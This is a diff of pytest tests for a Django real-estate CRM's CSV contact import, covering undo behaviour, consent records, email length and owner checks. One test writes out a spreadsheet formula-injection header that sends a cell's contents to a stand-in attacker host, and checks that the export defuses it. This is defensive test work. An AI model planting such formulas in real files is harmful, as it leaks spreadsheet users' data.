@@ -7,7 +7,9 @@ from datetime import timedelta
 
 import openpyxl
 import pytest
-from django.core.management import call_command
+from django.core.management import CommandError, call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
 from alerts.models import Alert
@@ -24,6 +26,7 @@ from leads.models import (
 from leads.selectors import hot_queue
 from realtycrm.flows.contacts import contact_log, stage_change
 from realtycrm.flows.imports import batch_run_here, batch_undo, batch_work
+from sequences.campaigns import Criteria, audience
 from sequences.models import Enrollment, Message, Task
 from tests.factories import LeadFactory
 
@@ -255,10 +258,30 @@ def test_bad_rows_are_reported_with_reasons_while_good_rows_import(broker, alex)
     assert Lead.objects.count() == 3
 
 
+def test_an_overlong_email_is_a_row_error_while_the_good_rows_import(broker):
+    """Django's validator takes addresses of up to 320 characters; the lead's column takes 254
+    (on PostgreSQL a longer one would stop the whole import)."""
+    long_email = "a" * 60 + "@" + ("b" * 60 + ".") * 4 + "com"
+    rows = [["Good", "good@example.com"], ["Long", long_email]]
+    batch = checked(csv_bytes(rows, header=["Name", "Email"]), broker)
+    assert batch.status == ImportBatch.Status.DRY_RUN
+    assert outcomes(batch)[3] == ("error", "Email is longer than 254 characters")
+    batch = imported(batch)
+    assert list(Lead.objects.values_list("email", flat=True)) == ["good@example.com"]
+
+
 def test_a_cell_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
     rows = [['=HYPERLINK("x")', "nope", ""]]
     batch = imported(checked(csv_bytes(rows, header=["Name", "Email", "Phone"]), broker))
     assert "'=HYPERLINK" in imports.failed_rows_text(batch)
+
+
+def test_a_header_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
+    header = ["Email", '=HYPERLINK("http://evil.example/?x="&A2,"Click")']
+    rows = [["good@example.com", "x"], ["not-an-email", "y"]]
+    batch = imported(checked(csv_bytes(rows, header=header), broker))
+    first_line = next(csv.reader(io.StringIO(imports.failed_rows_text(batch))))
+    assert first_line[:2] == ["Email", '\'=HYPERLINK("http://evil.example/?x="&A2,"Click")']
 
 
 def test_consent_comes_only_from_a_consent_column_with_a_date(broker):
@@ -358,6 +381,107 @@ def test_undo_keeps_a_filled_field_an_agent_changed_since(
         batch_undo(batch)
     lead.refresh_from_db()
     assert lead.last_name == "Jones-Okafor"
+
+
+def test_undo_keeps_a_contact_an_agent_worked_while_it_ran_and_says_so(broker, alex):
+    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
+    john = Lead.objects.get(email="john@example.com")
+    assert batch_undo(batch) == ""  # queued (on commit): the worker has not run yet
+    contact_log(john, channel="call", actor=alex, note="Talked for 20 minutes: wants to sell")
+    batch = batch_run_here(ImportBatch.objects.get(pk=batch.pk))
+    assert batch.status == ImportBatch.Status.UNDONE
+    assert list(Lead.objects.values_list("email", flat=True)) == ["john@example.com"]
+    assert f"lead #{john.pk} has re-engaged or been worked" in batch.error
+
+
+def test_no_campaign_reaches_the_contacts_of_an_import_being_undone(broker):
+    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
+    assert audience(Criteria()).exists()
+    assert batch_undo(batch) == ""  # the worker has not run yet
+    assert not audience(Criteria()).exists()
+
+
+def test_undo_reverts_fills_a_chunk_at_a_time_and_resumes(broker):
+    leads = [LeadFactory(email=f"c{i}@example.com", first_name="", phone="") for i in range(5)]
+    rows = [[f"Dana{i}", f"c{i}@example.com", ""] for i in range(5)]
+    batch = imported(
+        checked(
+            csv_bytes(rows, header=["First Name", "Email", "Phone"]), broker, on_duplicate="fill"
+        )
+    )
+    assert batch.updated == 5
+    assert batch_undo(batch) == ""
+    batch = ImportBatch.objects.get(pk=batch.pk)
+    with CaptureQueriesContext(connection) as first:
+        assert imports.undo_step(batch, chunk=2) is False
+    names = sorted(Lead.objects.values_list("first_name", flat=True))
+    assert names == ["", "", "Dana2", "Dana3", "Dana4"]
+    while not imports.undo_step(batch, chunk=2):
+        pass
+    assert set(Lead.objects.values_list("first_name", flat=True)) == {""}
+    assert len(leads) == Lead.objects.count() and batch.status == ImportBatch.Status.UNDONE
+    assert len(first.captured_queries) < 30  # a chunk's cost is its chunk's, not the batch's
+
+
+def test_undo_of_a_fill_removes_the_tag_it_linked_whatever_its_case(broker):
+    Tag.objects.create(name="VIP")
+    lead = LeadFactory(email="dana@example.com", phone="")
+    batch = imported(
+        checked(
+            csv_bytes([["dana@example.com", "vip"]], header=["Email", "Tags"]),
+            broker,
+            on_duplicate="fill",
+        )
+    )
+    assert list(lead.tags.values_list("name", flat=True)) == ["VIP"]
+    assert batch_undo(batch) == ""
+    batch_run_here(batch)
+    assert not lead.tags.exists()
+
+
+def _filled_with_consent(broker):
+    lead = LeadFactory(email="dana@example.com", phone="+14135550142", sms_consent_at=None)
+    batch = imported(
+        checked(
+            csv_bytes([["dana@example.com", "01/02/2022"]], header=["Email", "SMS Opt-In"]),
+            broker,
+            on_duplicate="fill",
+            consent_wording=WORDING,
+        )
+    )
+    lead.refresh_from_db()
+    assert lead.sms_consent_at is not None and ConsentRecord.objects.filter(lead=lead).exists()
+    return lead, batch
+
+
+def _text(lead, key):
+    return Message.objects.create(
+        lead=lead,
+        channel="sms",
+        to=lead.phone,
+        body="Hi",
+        purpose="one_off",
+        status="sent",
+        idempotency_key=key,
+    )
+
+
+def test_undo_is_refused_once_a_text_went_under_the_consent_a_fill_recorded(broker):
+    lead, batch = _filled_with_consent(broker)
+    _text(lead, "x1")
+    assert "was texted under the consent it recorded" in batch_undo(batch)
+    assert ConsentRecord.objects.filter(lead=lead).exists()
+
+
+def test_undo_keeps_the_consent_of_a_fill_a_text_went_under_while_it_ran(broker):
+    lead, batch = _filled_with_consent(broker)
+    assert batch_undo(batch) == ""  # the worker has not run yet
+    _text(lead, "x2")
+    batch_run_here(ImportBatch.objects.get(pk=batch.pk))
+    lead.refresh_from_db()
+    assert lead.sms_consent_at is not None
+    assert ConsentRecord.objects.filter(lead=lead).exists()
+    assert lead.events.filter(kind="consent_given").exists()
 
 
 @pytest.mark.parametrize("work", ["contact", "stage", "message", "task"])
@@ -478,6 +602,17 @@ def test_the_command_refuses_a_file_it_cannot_read(tmp_path):
     path.write_bytes(b"%PDF-1.4")
     with pytest.raises(Exception, match="Upload a CSV file"):
         run_command(str(path))
+
+
+def test_the_command_takes_only_an_active_agent_as_the_owner(tmp_path, alex):
+    """Like the page's owner choices: a departed agent's contacts would go unseen."""
+    alex.agent.active = False
+    alex.agent.save()
+    path = tmp_path / "contacts.csv"
+    path.write_bytes(csv_bytes(ROWS[1:2]))
+    with pytest.raises(CommandError, match="No active agent with the username 'alex'"):
+        run_command(str(path), "--owner", "alex")
+    assert not Lead.objects.exists()
 
 
 def test_recent_last_contact_is_kept_as_the_last_personal_contact(broker):
